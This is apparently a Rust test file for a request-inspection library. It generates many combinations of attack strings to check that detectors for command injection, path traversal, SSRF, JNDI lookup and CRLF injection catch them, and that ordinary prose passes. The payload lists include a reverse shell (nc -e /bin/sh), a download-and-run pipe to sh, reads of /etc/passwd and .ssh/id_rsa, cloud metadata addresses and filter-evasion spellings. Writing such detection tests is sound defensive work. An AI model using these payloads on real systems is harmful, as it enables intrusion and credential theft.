//! Attacks and good values by combination: what each detector promises of all of
//! them, not of a list. Everything is made anew from the same parts.

use super::{
    command_injection, crlf_injection, deserialisation, jndi_lookup, path_traversal,
    server_side_request_forgery,
};
use super::{look, Detector, Value, Where};
use crate::rule::Severity;

fn sure(detector: &Detector, text: &str) -> bool {
    let found = look(
        detector,
        &Value {
            bytes: text.as_bytes(),
            stood: Where::Parameter,
            name: b"q",
            declared: None,
        },
    );
    found.is_some_and(|found| {
        assert!(found.at.start <= found.at.end && found.at.end <= text.len());
        found.severity.unwrap_or(detector.severity) == Severity::Critical
    })
}

/// Which of the texts are not found for certain; at most `most` may be so.
fn all_found(detector: &Detector, texts: &[String], most: usize) {
    assert!(texts.len() > 100, "only {} texts were made", texts.len());
    let missed: Vec<_> = texts.iter().filter(|text| !sure(detector, text)).collect();
    let shown: Vec<_> = missed.iter().take(20).collect();
    assert!(
        missed.len() <= most,
        "{} of {}: {shown:#?}",
        missed.len(),
        texts.len()
    );
}

#[test]
fn commands_in_every_place_and_disguise() {
    let contexts = ["", "127.0.0.1", "foo.txt", "x'", "x\"", "1)", "a b'"];
    let openings = [";", "; ", "|", " | ", "&&", " && ", "||", "&", "\n"];
    let commands = [
        "id",
        "whoami",
        "uname -a",
        "cat /etc/passwd",
        "ls -la",
        "sleep 5",
        "ping -c 3 10.0.0.1",
        "curl http://a.example/x",
        "wget http://a.example/x -O- | sh",
        "/bin/cat /etc/passwd",
        "cat${IFS}/etc/passwd",
        "cat</etc/passwd",
        "{cat,/etc/passwd}",
        "c''at /etc/passwd",
        "c\\at /etc/passwd",
        "c$@at /etc/passwd",
        "/???/c?t /etc/passwd",
        "w'h'oami",
        "$'\\x63at' /etc/passwd",
        "bash -c 'id'",
        "nc -e /bin/sh 10.0.0.1 4444",
        "powershell -enc SQBFAFgA",
        "w^hoami",
        "echo aWQ= | base64 -d | sh",
        "python3 -c 'import os'",
        "X=1 whoami",
        "sudo whoami",
        "nslookup a.example",
    ];
    let endings = ["", ";", " #", "'", " | x"];
    let mut texts = Vec::new();
    for context in contexts {
        for opening in openings {
            for command in commands {
                for ending in endings {
                    texts.push(format!("{context}{opening}{command}{ending}"));
                }
            }
        }
    }
    for command in commands {
        texts.push(format!("x$({command})"));
        texts.push(format!("$({command})"));
        texts.push(format!("`{command}`"));
        texts.push(format!("system('{command}')"));
    }
    // One in fifty: what a single hint less makes a warning.
    all_found(&command_injection::DETECTOR, &texts, texts.len() / 50);
}

#[test]
fn climbs_in_every_spelling() {
    let mut texts = Vec::new();
    for dots in [
        "..",
        "%2e%2e",
        "%252e%252e",
        "%c0%ae%c0%ae",
        "．．",
        "....",
        "..;",
        "%u002e%u002e",
    ] {
        for slash in ["/", "\\", "%2f", "%255c", "%c0%af", "//", "%u2215"] {
            for count in [2, 3, 7] {
                for target in [
                    "etc/passwd",
                    "windows/win.ini",
                    "x/y.conf",
                    "WEB-INF/web.xml",
                    ".ssh/id_rsa",
                ] {
                    for begin in ["", "/", "images/", "/var/www/"] {
                        // Three steps lead out of two folders.
                        if begin.len() > 1 && count < 3 {
                            continue;
                        }
                        let climb = format!("{dots}{slash}").repeat(count);
                        texts.push(format!("{begin}{climb}{target}"));
                        texts.push(format!("{begin}{climb}{target}\0.png"));
                    }
                }
            }
        }
    }
    all_found(&path_traversal::DETECTOR, &texts, texts.len() / 50);
}

#[test]
fn this_machine_in_every_spelling() {
    let hosts = [
        "127.0.0.1",
        "127.1",
        "0x7f.0.0.1",
        "0x7f000001",
        "2130706433",
        "0177.0.0.1",
        "017700000001",
        "localhost",
        "LOCALHOST.",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "①②⑦.0.0.1",
        "127。0。0。1",
        "127.0.0.1.nip.io",
        "x.127-0-0-1.sslip.io",
        "10.0.0.1",
        "192.168.0.1",
        "172.16.5.4",
        "169.254.169.254",
        "[fe80::1%25eth0]",
        "[fd00:ec2::254]",
        "metadata.google.internal",
        "100.100.100.200",
        "%31%32%37.0.0.1",
        "a.localhost",
        "0.0.0.0",
        "[::]",
    ];
    let mut texts = Vec::new();
    for scheme in ["http:", "https:", "HTTP:", "ftp:", "ws:"] {
        for slashes in ["//", "/", "\\\\", "///"] {
            for user in [
                "",
                "user@",
                "user:pw@",
                "example.com@",
                "example.com:80@",
                "example.com\\@",
                "example.com#@",
            ] {
                for host in hosts {
                    for port in ["", ":22"] {
                        texts.push(format!("{scheme}{slashes}{user}{host}{port}/x"));
                    }
                }
            }
        }
    }
    all_found(&server_side_request_forgery::DETECTOR, &texts, 0);
}

#[test]
fn lookups_put_together_in_every_way() {
    let mut texts = Vec::new();
    let ways: [fn(char) -> String; 7] = [
        |letter| letter.to_string(),
        |letter| format!("${{lower:{}}}", letter.to_ascii_uppercase()),
        |letter| format!("${{upper:{letter}}}"),
        |letter| format!("${{::-{letter}}}"),
        |letter| format!("${{env:X:-{letter}}}"),
        |letter| format!("${{date:'{letter}'}}"),
        |letter| format!("${{lower:${{::-{letter}}}}}"),
    ];
    for one in ways {
        for other in ways {
            for (at, letter) in "jndi:".chars().enumerate() {
                let spelled: String = "jndi:"
                    .chars()
                    .enumerate()
                    .map(|(here, sign)| if here == at { other(letter) } else { one(sign) })
                    .collect();
                for around in [("", ""), ("Mozilla/5.0 ", " x")] {
                    texts.push(format!(
                        "{}${{{spelled}ldap://a.example/x}}{}",
                        around.0, around.1
                    ));
                }
            }
        }
    }
    all_found(&jndi_lookup::DETECTOR, &texts, 0);
}

#[test]
fn heads_after_every_line_end() {
    let mut texts = Vec::new();
    for before in ["", "/home", "en", "https://example.com/", "a@b.example"] {
        for end in [
            "\r\n",
            "\n",
            "\r",
            "\r\n\r\n",
            "\u{560d}\u{560a}",
            "\u{10d}\u{10a}",
            "\\r\\n",
        ] {
            for head in [
                "Set-Cookie: a=b",
                "Location: https://evil.example",
                "Content-Type: text/html",
                "X-A: b",
                "Access-Control-Allow-Origin: *",
                "Transfer-Encoding:chunked",
                "set-cookie:a=b",
            ] {
                texts.push(format!("{before}{end}{head}"));
                texts.push(format!("{before}{end}{head}\r\n\r\n<b>x"));
            }
        }
    }
    all_found(&crlf_injection::DETECTOR, &texts, 0);
}

/// A simple generator of numbers, so that every run makes the same texts.
struct Dice(u64);

impl Dice {
    fn throw(&mut self, sides: usize) -> usize {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1);
        usize::try_from(self.0 >> 33).unwrap() % sides
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.throw(from.len())]
    }
}

/// Words of prose, many of them names of programs, and names with signs.
const WORDS: &[&str] = &[
    "cats",
    "dogs",
    "sales",
    "R&D",
    "AT&T",
    "less",
    "more",
    "find",
    "sort",
    "date",
    "time",
    "file",
    "cat",
    "head",
    "tail",
    "who",
    "last",
    "name",
    "test",
    "type",
    "source",
    "mail",
    "O'Brien",
    "price",
    "cut",
    "split",
    "look",
    "the",
    "of",
    "and",
    "a",
    "is",
    "kill",
    "sleep",
    "host",
    "touch",
    "start",
    "call",
    "move",
    "we",
    "you",
    "10.0.0.5",
    "12:30",
    "a/b",
    "and/or",
    "C++",
    "$100",
    "50%",
    "e.g.",
    "it's",
    "(see",
    "below)",
    "x > y",
    "https://example.com/a?b=c",
    "/home/user1/photo.jpg",
    "C:\\Users\\me\\a.txt",
    "me@example.com",
    "1.5/2",
    "${name}",
    "{{name}}",
    "`name`",
    "**bold**",
    "[a](../b.md)",
    "<b>x</b>",
    "2024-05-01",
    "v1.2.3",
    "naïve",
    "日本",
];

const SIGNS: &[&str] = &[
    " ", " ", " ", " ", " ", ", ", ". ", "; ", ": ", " & ", " | ", " - ", " / ", " (", ") ", "! ",
    "? ", "\n", "\r\n", "\n\n", "\n- ", " > ", "... ", " = ",
];

#[test]
fn what_people_write_is_not_refused() {
    let mine: [&Detector; 6] = [
        &command_injection::DETECTOR,
        &path_traversal::DETECTOR,
        &server_side_request_forgery::DETECTOR,
        &jndi_lookup::DETECTOR,
        &crlf_injection::DETECTOR,
        &deserialisation::DETECTOR,
    ];
    let mut dice = Dice(42);
    let mut refused = Vec::new();
    const TEXTS: usize = 20_000;
    for _ in 0..TEXTS {
        let mut text = String::new();
        for _ in 0..3 + dice.throw(12) {
            text.push_str(dice.pick(WORDS));
            text.push_str(dice.pick(SIGNS));
        }
        for detector in mine {
            if sure(detector, &text) {
                refused.push(format!("{}: {text:?}", detector.name));
            }
        }
    }
    let shown: Vec<_> = refused.iter().take(20).collect();
    // Half of the goal's 0.5 %, with words that are far more often programs' names than people's are.
    assert!(
        refused.len() <= TEXTS / 400,
        "{} of {TEXTS}: {shown:#?}",
        refused.len()
    );
}

/// A word, a list of words by any sign: nothing at all is said of them.
#[test]
fn lists_of_words_say_nothing() {
    let mut dice = Dice(7);
    let plain: Vec<&str> = WORDS
        .iter()
        .copied()
        .filter(|word| word.bytes().all(|byte| byte.is_ascii_lowercase()))
        .collect();
    for _ in 0..2_000 {
        let sign = dice.pick(&[";", "|", ",", "&", " | ", ", ", "; "]);
        let words: Vec<&str> = (0..2 + dice.throw(5)).map(|_| dice.pick(&plain)).collect();
        let text = words.join(sign);
        assert!(!sure(&command_injection::DETECTOR, &text), "{text:?}");
    }
}
